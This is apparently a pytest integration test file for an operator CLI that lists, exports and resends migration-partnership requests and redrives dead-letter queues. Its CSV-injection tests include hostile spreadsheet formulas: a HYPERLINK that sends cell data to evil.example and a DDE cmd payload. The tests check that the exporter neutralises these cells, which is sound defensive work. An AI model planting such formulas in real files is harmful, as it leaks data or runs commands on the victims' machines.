"""The operator command under moto: listings, export, resending mail, dead-letter queues."""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner, Result

from functions.ops.__main__ import cli
from infra.local.sample_data import Sample, seed
from tests.integration.helpers import mail_to, record_operations, run_workers, seed_committee
from tests.support import Stack

PARTNER = "a.diallo@interieur.example.sn"
GOV = "national_government"
SEEDED = [
    ("SN", GOV, "irregular_migration", "border_management", "2026-01-10", "approved"),
    ("SN", "judiciary", "legal_migration", "labour_migration", "2026-02-20", "rejected"),
    ("BD", "parliament", "horizontal", "migration_policy_development", "2026-03-05", "approved"),
    ("BD", GOV, "irregular_migration", "border_management", "2026-04-15", "under_review"),
    ("EG", GOV, "legal_migration", "labour_migration", "2025-06-01", "approved"),
]


def ops(*args: str) -> Result:
    return CliRunner().invoke(cli, list(args))


@pytest.fixture
def seeded(stack: Stack) -> list[str]:
    seed_committee()
    at = [datetime.fromisoformat(s[4]).replace(hour=9, tzinfo=UTC) for s in SEEDED]
    return seed(
        [Sample(*s[:4], t, s[5], timedelta(days=12)) for s, t in zip(SEEDED, at, strict=True)]
    )


@pytest.fixture
def operations(monkeypatch: pytest.MonkeyPatch) -> list[tuple[str, str]]:
    """The AWS operations made while the test runs (with the index queried, if any)."""
    return record_operations(monkeypatch)


def listed(*args: str) -> list[dict[str, Any]]:
    result = ops("requests", "list", "--format", "json", *args)
    assert result.exit_code == 0, result.output
    return list(json.loads(result.output))


def test_listing_filters_through_the_indexes_never_a_scan(
    seeded: list[str], operations: list[tuple[str, str]]
) -> None:
    assert [r["id"] for r in listed("--year", "2026")] == seeded[:4]
    assert operations == [("Query", "region-index")] * 5  # one per region
    operations.clear()
    africa = listed("--year", "2026", "--region", "africa")
    assert [r["country"] for r in africa] == ["SN", "SN"]
    assert operations == [("Query", "region-index")]
    operations.clear()
    approved = listed("--status", "approved")
    assert [r["id"] for r in approved] == [seeded[4], seeded[0], seeded[2]]
    assert operations == [("Query", "status-index")]
    assert [r["id"] for r in listed("--status", "approved", "--year", "2026")] == [
        seeded[0],
        seeded[2],
    ]
    assert [r["id"] for r in listed("--year", "2026", "--pillar", "irregular_migration")] == [
        seeded[0],
        seeded[3],
    ]
    assert [r["id"] for r in listed("--year", "2026", "--institution-type", "parliament")] == [
        seeded[2]
    ]
    assert [r["id"] for r in listed("--year", "2025")] == [seeded[4]]
    assert all(op == "Query" for op, _ in operations)


def test_listing_as_a_table_and_as_csv(seeded: list[str]) -> None:
    table = ops("requests", "list", "--year", "2026", "--region", "asia_pacific")
    assert table.exit_code == 0
    assert "MX-2026-0003" in table.output and "under_review" in table.output
    assert table.output.rstrip().endswith("2 request(s)")
    rows = list(
        csv.DictReader(
            io.StringIO(ops("requests", "list", "--year", "2026", "--format", "csv").output)
        )
    )
    assert [r["status"] for r in rows] == ["approved", "rejected", "approved", "under_review"]
    assert rows[0]["decided_at"].startswith("2026-01-22")


def test_unknown_filter_values_are_refused(seeded: list[str]) -> None:
    result = ops("requests", "list", "--region", "atlantis")
    assert result.exit_code == 2 and "unknown region atlantis" in result.output
    assert ops("requests", "list", "--status", "lost").exit_code == 2


def test_export_writes_csv_and_json_with_progress(seeded: list[str], tmp_path: Path) -> None:
    out = tmp_path / "requests.csv"
    result = ops("requests", "export", "--year", "2026", "--out", str(out))
    assert result.exit_code == 0 and "4 request(s) written" in result.output
    assert "Reading requests" in result.output  # the progress bar (stderr, mixed in by CliRunner)
    rows = list(csv.DictReader(out.open(encoding="utf-8-sig")))
    assert [r["id"] for r in rows] == seeded[:4]
    out = tmp_path / "approved.json"
    ops("requests", "export", "--status", "approved", "--out", str(out))
    records = json.loads(out.read_text(encoding="utf-8"))
    assert [r["id"] for r in records] == [seeded[4], seeded[0], seeded[2]]
    assert records[0]["document"]["institution"]["country"] == "EG"
    assert ops("requests", "export", "--out", str(tmp_path / "x.txt")).exit_code == 2


def test_resend_sends_an_email_again(client: Any, stack: Stack, submitted: str) -> None:
    assert len(mail_to(PARTNER, "receipt")) == 1
    result = ops(
        "requests", "resend", "--request", submitted, "--kind", "receipt", "--recipient", "partner"
    )
    assert result.exit_code == 0 and "queued again (it was sent on" in result.output
    run_workers(client, stack)
    assert len(mail_to(PARTNER, "receipt")) == 2
    refused = ops(
        "requests", "resend", "--request", submitted, "--kind", "receipt", "--recipient", "boss"
    )
    assert refused.exit_code == 1 and "recipient" in refused.output
    assert (
        ops(
            "requests",
            "resend",
            "--request",
            submitted,
            "--kind",
            "party",
            "--recipient",
            "partner",
        ).exit_code
        == 2
    )
    run_workers(client, stack)
    assert len(mail_to(PARTNER, "receipt")) == 2


def test_requests_show_lists_the_audit_trail(submitted: str) -> None:
    result = ops("requests", "show", submitted)
    assert result.exit_code == 0
    assert "status=under_review" in result.output and "review_opened" in result.output


def test_the_commands_take_a_reference_found_through_region_index(
    seeded: list[str], operations: list[tuple[str, str]]
) -> None:
    shown = ops("request", "show", "MX-2026-0003")  # as the Project Officer's email gives it
    assert shown.exit_code == 0, shown.output
    assert shown.output.startswith("MX-2026-0003  status=approved")
    assert ("Scan", "") not in operations and all(op == "Query" for op, _ in operations)
    assert 1 < len(operations) <= 6  # region-index for 2026 until the match, then the partition
    assert ops("requests", "show", "mx-2025-0001").output.startswith("MX-2025-0001")
    resent = ops(
        "requests", "resend", "--request", "MX-2026-0001", "--kind", "receipt", "--recipient",
        "partner",
    )  # fmt: skip
    assert resent.exit_code == 0 and "queued again" in resent.output
    missing = ops("request", "show", "MX-2026-0099")
    assert missing.exit_code == 1 and "no request MX-2026-0099" in missing.output
    assert ops("request", "show", seeded[2]).output.startswith("MX-2026-0003")  # an id still


def test_dlq_list_and_redrive_moves_messages_back(
    client: Any, stack: Stack, submitted: str
) -> None:
    dlq = stack.env["NOTIFY_DLQ_URL"]
    note = {
        "type": "notification",
        "request_id": submitted,
        "mail_kind": "receipt",
        "round": 1,
        "recipient": "partner",
    }
    stack.sqs.send_message(QueueUrl=dlq, MessageBody=json.dumps(note))
    stack.sqs.send_message(QueueUrl=dlq, MessageBody='{"type": "mystery"}')
    listing = ops("dlq", "list")
    assert listing.exit_code == 0, listing.output
    assert "review: 0 message(s)" in listing.output
    assert "notifications: 2 message(s)" in listing.output
    assert f"request_id={submitted}" in listing.output and "recipient=partner" in listing.output
    result = ops("dlq", "redrive", "--queue", "notifications")
    assert result.exit_code == 0, result.output
    assert "1 message(s) moved back" in result.output and "1 message(s) break" in result.output
    assert stack.notifications() == [note]
    assert ops("dlq", "redrive", "--queue", "review").output.strip() == "review: the DLQ is empty"


def test_a_stage_is_targeted_through_its_stack_outputs(stack: Stack) -> None:
    from functions.ops.target import stage_environment

    env = stage_environment("local", None, "eu-west-1")
    for name in (
        "TABLE_NAME",
        "REVIEW_QUEUE_URL",
        "NOTIFY_QUEUE_URL",
        "REVIEW_DLQ_URL",
        "NOTIFY_DLQ_URL",
    ):
        assert env[name] == stack.env[name], name
    with pytest.raises(LookupError, match="no stack mieux-prod"):
        stage_environment("prod", None, "eu-west-1")


def test_an_env_file_targets_the_local_stack(
    seeded: list[str], tmp_path: Path, monkeypatch: pytest.MonkeyPatch, stack: Stack
) -> None:
    env = tmp_path / "env.json"
    env.write_text(json.dumps(stack.env), encoding="utf-8")
    monkeypatch.setenv("TABLE_NAME", "nowhere")
    result = ops("--env-file", str(env), "requests", "list", "--year", "2026", "--format", "json")
    assert result.exit_code == 0, result.output
    assert len(json.loads(result.output)) == 4


# Issue 14, item 6: cells a spreadsheet would run as formulas (OWASP CSV injection, ASVS 5.0
# V1.2.10), and Arabic and Russian that Excel reads as mojibake without a byte-order mark.
HOSTILE = [
    ('=HYPERLINK("http://evil.example/?x="&B2,"Open")', "@SUM(1+1)*cmd|' /C calc'!A0"),
    ("+1 Обучение пограничников", "-2+3 وزارة الداخلية"),
    # A carriage return cannot start a one-line field any more (the text rule refuses it at
    # intake); the neutraliser still treats one (tests/unit/test_spreadsheet.py).
    ("\t=1+1 training", "\t@2+2 ministry"),
]


@pytest.fixture
def hostile(stack: Stack) -> list[str]:
    """Three submitted requests whose title and institution begin with formula characters."""
    from functions.services import intake
    from tests.support import example_request

    ids = []
    for title, institution in HOSTILE:
        document = example_request()
        document.pop("submission_id", None)
        document["request"]["title"] = title
        document["institution"]["name"] = institution
        ids.append(intake.submit(document).id)
    return ids


def spreadsheet_cells(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def assert_neutralised(rows: list[dict[str, str]]) -> None:
    titles = {r["title"] for r in rows}
    institutions = {r["institution"] for r in rows}
    assert titles == {"'" + title for title, _ in HOSTILE}
    assert institutions == {"'" + institution for _, institution in HOSTILE}
    for cell in (value for r in rows for value in r.values()):
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r", "\0")), cell


def test_a_csv_export_neutralises_formulas_and_carries_a_bom(
    hostile: list[str], tmp_path: Path
) -> None:
    out = tmp_path / "x.csv"
    result = ops("requests", "export", "--status", "submitted", "--out", str(out))
    assert result.exit_code == 0, result.output
    raw = out.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # UTF-8's byte-order mark: Excel then reads UTF-8
    rows = spreadsheet_cells(raw.decode("utf-8-sig"))
    assert sorted(r["id"] for r in rows) == sorted(hostile)
    assert_neutralised(rows)
    assert any("Обучение" in r["title"] for r in rows)
    assert any("الداخلية" in r["institution"] for r in rows)


def test_the_csv_listing_neutralises_formulas_and_the_json_stays_exact(
    hostile: list[str], tmp_path: Path
) -> None:
    listing = ops("requests", "list", "--status", "submitted", "--format", "csv")
    assert listing.exit_code == 0, listing.output
    assert not listing.output.startswith("\ufeff")  # a pipe's first column stays "reference"
    assert_neutralised(spreadsheet_cells(listing.output))
    exact = {(r["title"], r["institution"]) for r in listed("--status", "submitted")}
    assert exact == set(HOSTILE)
    out = tmp_path / "x.json"
    assert ops("requests", "export", "--status", "submitted", "--out", str(out)).exit_code == 0
    records = json.loads(out.read_text(encoding="utf-8"))
    assert {(r["title"], r["document"]["request"]["title"]) for r in records} == {
        (title, title) for title, _ in HOSTILE
    }


def test_recount_sets_the_queues_counts_from_the_index_after_drift(seeded: list[str]) -> None:
    from functions.adapters.dynamodb import keys
    from functions.adapters.repository import repository
    from functions.runtime.settings import get_settings

    store = repository()
    assert store.status_counts()["approved"] == 3 and store.status_counts()["under_review"] == 1
    assert ops("requests", "recount", "--check").exit_code == 0
    # A counter gone astray (a write by hand, or requests deleted by their retention).
    pk, sk = keys.status_count("approved")
    boto3_client().put_item(
        TableName=get_settings().table_name,
        Item={"pk": {"S": pk}, "sk": {"S": sk}, "kind": {"S": "status_count"}, "total": {"N": "9"}},
    )
    checked = ops("requests", "recount", "--check")
    assert checked.exit_code == 1 and "1 counts differ" in checked.output
    assert store.status_counts()["approved"] == 9  # --check changes nothing
    fixed = ops("requests", "recount")
    assert fixed.exit_code == 0, fixed.output
    assert "approved                       3  (was 9)" in fixed.output
    assert store.status_counts()["approved"] == 3
    assert sum(store.status_counts().values()) == len(seeded)


def boto3_client() -> Any:
    import boto3

    return boto3.client("dynamodb", region_name="eu-west-1")
